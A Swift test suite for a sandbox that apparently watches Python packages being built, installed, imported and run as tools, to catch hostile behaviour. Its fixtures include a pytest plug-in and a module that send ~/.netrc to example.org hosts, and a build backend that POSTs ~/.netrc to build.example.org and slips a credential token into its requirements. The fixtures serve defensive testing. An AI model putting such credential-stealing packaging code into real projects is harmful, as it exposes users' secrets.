import Evidence
import Glibc
import Synchronization
import TestSupport
import Testing

@testable import Sandbox

/// What comes before and beside the start of an interpreter: builds, tools, kernels, failures.
@Suite("The stages of an observation", .serialized, .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
struct PipelineTests {
  /// A package that loads what is registered with it, as the real one does.
  private static func loader(_ package: String, _ group: String, status: Int) -> Observer.Request.File {
    Stages.wheel(
      package,
      [
        ("\(package)/__init__.py", ""),
        (
          "\(package)/__main__.py",
          """
          import importlib.metadata as metadata, sys
          points = metadata.entry_points()
          points = points.select(group='\(group)') if hasattr(points, 'select') else points.get('\(group)', [])
          for point in points:
              point.load()
          sys.exit(\(status))
          """
        ),
      ])
  }

  private static let plugin = (
    members: [("harbour.py", ""), ("harbour_plugin.py", Stages.carry(".netrc", to: "plugin.example.org"))],
    entryPoints: "[pytest11]\nharbour = harbour_plugin\n"
  )

  @Test(
    "start a tool that loads a plug-in, whether it is there or has to be fetched",
    .enabled(if: Stages.hasPython, Stages.noPython), arguments: [true, false])
  func tool(isBeside: Bool) throws {
    let pytest = Self.loader("pytest", "pytest11", status: 5)
    let asked = Mutex<[[String]]>([])
    let observation = try Stages.observe(Self.plugin.members, entryPoints: Self.plugin.entryPoints, phases: [.tool]) {
      $0.tools = ["pytest", "shell", "no such tool"]
      if isBeside { $0.dependencies = [pytest] }
      $0.resolve = { requirements in
        asked.withLock { $0.append(requirements) }
        return [pytest]
      }
    }
    #expect(asked.withLock { $0 } == (isBeside ? [] : [["pytest"]]))
    let stage = try #require(observation.stage("pytest"))
    #expect(stage.tool == "pytest" && stage.phase == .tool && stage.end == .exited(5))
    #expect(!stage.exchanges("plugin.example.org").isEmpty)
    #expect(observation.levels(.tool).contains(.proven))
    #expect(
      observation.evidence.allSatisfy { observation.stages[$0.stage].tool == "pytest" }, "\(observation.evidence)")
    #expect(observation.stage("shell")?.end == .exited(0))
    #expect(observation.unobserved.map(\.name) == ["no such tool"] && observation.isComplete)
  }

  @Test("say which tools and kernels are not there", .enabled(if: Stages.hasPython, Stages.noPython))
  func absent() throws {
    let shell = Self.loader("IPython", "none", status: 0)
    let observation = try Stages.observe([("harbour.py", "")], phases: [.startup, .tool]) {
      $0.tools = ["flake8"]
      $0.expectsKernels = true
      $0.dependencies = [shell]
    }
    #expect(observation.stage("ipython -c pass")?.end == .exited(0))
    #expect(
      observation.unobserved.map(\.why) == [
        "ipykernel is not installed beside it", "flake8 is not installed beside it",
      ])
    #expect(observation.isComplete)
  }

  @Test(
    "go on after an import that raises or never ends, and say what was printed",
    .enabled(if: Stages.hasPython, Stages.noPython))
  func failingImports() throws {
    let observation = try Stages.observe(
      [
        ("harbour.py", "raise RuntimeError('the tide is out')\n"),
        ("quay.py", "import threading; threading.Event().wait(600)\n"), ("mole.py", "print('here')\n"),
      ], modules: ["harbour", "quay", "mole", "no such", "buoy", "pier"], phases: [.import]
    ) {
      $0.limits.importing = 2_000
      $0.limits.modules = 5
    }
    #expect(observation.stages.map(\.end).dropFirst() == [.exited(1), .stopped("wall-clock"), .exited(0), .exited(1)])
    #expect(observation.gap("import harbour")?.why.hasSuffix("RuntimeError: the tide is out") == true)
    #expect(observation.gap("import buoy")?.why.contains("No module named 'buoy'") == true)
    #expect(observation.gap("import pier") != nil)
    #expect(!observation.isComplete)
  }

  @Test(
    "tell every phase that cannot come after an installation that failed",
    .enabled(if: Stages.hasPython, Stages.noPython))
  func failingInstallation() throws {
    let observation = try Stages.observe(
      name: "harbour-1.0-py3-none-any.whl", bytes: Array("no archive".utf8), modules: ["harbour"],
      phases: [.startup, .import]
    ) { $0.tools = ["pytest"] }
    #expect(observation.stages.map(\.phase) == [.install])
    #expect(observation.stages.first?.end != .exited(0))
    #expect(!observation.unobserved.contains { !$0.isGap })
    #expect(Set(observation.unobserved.map(\.phase)) == [.install, .startup, .tool, .import])
    #expect(observation.gap("pip install")?.why.contains("harbour") == true)
  }

  @Test(
    "install with uv as well", .enabled(if: Stages.hasPython, Stages.noPython), .enabled(if: Stages.uv != nil, "no uv"))
  func uv() throws {
    let observation = try Stages.observe([("harbour.py", ""), ("harbour.pth", "import os\n")]) { $0.uv = Stages.uv }
    let stage = try #require(observation.stage("uv pip install harbour"))
    #expect(stage.end == .exited(0) && stage.phase == .install, "\(observation.unobserved)")
    let unusual = stage.events.filter { !$0.isUsual }
    #expect(unusual.count < stage.events.count / 2 && !unusual.isEmpty)
    #expect(observation.evidence.isEmpty, "\(observation.evidence)")
  }

  @Test(
    "build an sdist by its own backend, and fetch only what can be a requirement",
    .enabled(if: Stages.hasPython, Stages.noPython))
  func inTreeBackend() throws {
    let info = "Metadata-Version: 2.1\\nName: harbour\\nVersion: 1.0\\n"
    let backend = """
      import os, urllib.request, zipfile
      def get_requires_for_build_wheel(settings=None):
          return ['helper>=1', 'other @ https://example.org/x.whl', '../up', open(os.path.expanduser('~/.netrc')).read().split()[-1]]
      def build_wheel(folder, settings=None, metadata=None):
          import helper
          urllib.request.urlopen('http://build.example.org/', data=open(os.path.expanduser('~/.netrc'), 'rb').read())
          name = 'harbour-1.0-py3-none-any.whl'
          with zipfile.ZipFile(os.path.join(folder, name), 'w') as wheel:
              wheel.writestr('harbour.py', 'built = True')
              wheel.writestr('harbour-1.0.dist-info/METADATA', '\(info)')
              wheel.writestr('harbour-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
              wheel.writestr('harbour-1.0.dist-info/RECORD', '')
          return name
      """
    let project = "[build-system]\nrequires = []\nbuild-backend = 'maker'\nbackend-path = ['build_tools']\n"
    let sdist = SdistBuilder(
      name: "harbour", files: [("pyproject.toml", project), ("build_tools/maker.py", backend)])
    let asked = Mutex<[[String]]>([])
    let observation = try Stages.observe(name: sdist.fileName, bytes: sdist.build(), phases: [.import]) {
      $0.buildBackend = "maker"
      $0.backendPath = ["build_tools"]
      $0.modulesOfWheel = { _ in ["harbour"] }
      $0.resolve = { requirements in
        asked.withLock { $0.append(requirements) }
        return [Stages.wheel("helper", [("helper.py", "")])]
      }
    }
    #expect(asked.withLock { $0 } == [["helper>=1"]])
    #expect(observation.stages.map(\.phase) == [.build, .build, .install, .import], "\(observation.unobserved)")
    #expect(observation.stages.allSatisfy { $0.end == .exited(0) })
    #expect(observation.stages.prefix(2).allSatisfy { $0.tool == "maker" })
    #expect(observation.levels(.build).contains(.proven))
    #expect(observation.levels(.install).isEmpty && observation.levels(.import).isEmpty, "\(observation.evidence)")
    #expect(observation.stage("pip wheel")?.exchanges("build.example.org").count == 1)
    #expect(observation.gap("installation of what the build asks for") != nil)
  }

  @Test(
    "say what a build without its requirements leaves unseen", .enabled(if: Stages.hasPython, Stages.noPython),
    arguments: [true, false])
  func unbuilt(isRefused: Bool) throws {
    struct Refused: Error {}
    let sdist = SdistBuilder(name: "harbour", files: [("setup.py", "from setuptools import setup\nsetup()\n")])
    let observation = try Stages.observe(name: sdist.fileName, bytes: sdist.build(), modules: ["harbour"]) {
      if isRefused { $0.resolve = { _ in throw Refused() } }
    }
    #expect(observation.stages.isEmpty)
    #expect(Set(observation.unobserved.filter(\.isGap).map(\.phase)) == [.build, .install, .startup, .import])
  }

  @Test("come out the same on one thread and on many", .enabled(if: Stages.hasPython, Stages.noPython))
  func threads() throws {
    func summary(_ threads: Int) throws -> [String] {
      let observation = try Stages.observe(
        [("harbour.py", Stages.carry(".netrc", to: "collect.example.org")), ("quay.py", ""), ("mole.py", "1 / 0\n")],
        modules: ["mole", "harbour", "quay"], phases: [.import]
      ) { $0.threads = threads }
      return observation.stages.map { "\($0.name) \($0.persona) \($0.end)" }
        + observation.evidence.map { "\($0.stage) \($0.level) \($0.decoys)" }
    }
    let one = try summary(1)
    #expect(try summary(4) == one)
    #expect(one.count >= 7)
  }

  @Test("are not run any more once everything was cancelled", .enabled(if: Stages.hasPython, Stages.noPython))
  func cancelled() throws {
    let cancellation = Box.Cancellation()
    cancellation.cancel()
    #expect(throws: Observer.Failure.self) {
      try Stages.observe([("harbour.py", "")]) { $0.cancellation = cancellation }
    }
  }
}
